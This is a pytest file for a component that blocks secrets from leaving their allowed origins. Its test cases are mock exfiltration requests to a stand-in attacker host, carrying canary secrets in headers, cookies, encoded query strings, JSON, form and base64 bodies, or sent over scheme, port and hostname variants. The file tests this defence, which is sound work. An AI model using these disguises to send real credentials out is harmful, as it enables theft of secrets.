"""Secrets that have homes: no request carries them elsewhere, in whatever clothes."""

import base64
from urllib.parse import quote, urlencode

import httpx
import pytest

from lib.checks.conversation import Fault
from lib.engine.fence import Fence
from lib.launch.secret import Secret

VALUE = "canary/secret+0123456789"
HOMES = frozenset({("https", "api.example.com", 443)})
FENCE = Fence(
    [
        Secret(VALUE, HOMES),
        Secret("Cookie: session=canary-of-a-session", HOMES),
        Secret("x-kept:canary-close-up", HOMES),
    ]
)
ELSEWHERE = "https://evil.example/"


@pytest.mark.parametrize(
    "request_",
    [
        httpx.Request("GET", ELSEWHERE, headers={"x-api-key": VALUE}),
        httpx.Request("GET", ELSEWHERE, headers={"authorization": f"Bearer {VALUE}"}),
        httpx.Request("GET", ELSEWHERE, headers={"cookie": "session=canary-of-a-session"}),
        httpx.Request("GET", ELSEWHERE, headers={"x-kept": "canary-close-up"}),
        httpx.Request("GET", f"{ELSEWHERE}?key={quote(VALUE, safe='')}"),
        httpx.Request("GET", f"{ELSEWHERE}{quote(quote(VALUE, safe=''), safe='')}"),
        httpx.Request("POST", ELSEWHERE, content=urlencode({"client_secret": VALUE})),
        httpx.Request("POST", ELSEWHERE, json={"deep": [VALUE]}),
        httpx.Request("GET", ELSEWHERE, headers={"x-basic": base64.b64encode(f"me:{VALUE}".encode()).decode()}),
        httpx.Request("GET", "http://api.example.com/", headers={"x-api-key": VALUE}),
        httpx.Request("GET", "https://api.example.com:8443/", headers={"x-api-key": VALUE}),
        httpx.Request("GET", "https://api.example.com./", headers={"x-api-key": VALUE}),
    ],
)
def test_a_secret_goes_to_no_strange_origin(request_):
    with pytest.raises(Fault) as fault:
        FENCE.admit(request_)
    assert fault.value.cause == "address-refused"
    assert "GOLIVE_KEYS" in fault.value.because
    assert "canary" not in fault.value.because


def test_it_goes_home_and_other_requests_go_anywhere():
    FENCE.admit(httpx.Request("GET", "https://API.example.com/v1", headers={"x-api-key": VALUE}))
    FENCE.admit(httpx.Request("POST", ELSEWHERE, headers={"x-api-key": "another"}, json={"a": "b"}))


def test_a_secret_without_homes_goes_anywhere():
    Fence([Secret(VALUE)]).admit(httpx.Request("GET", ELSEWHERE, headers={"x-api-key": VALUE}))
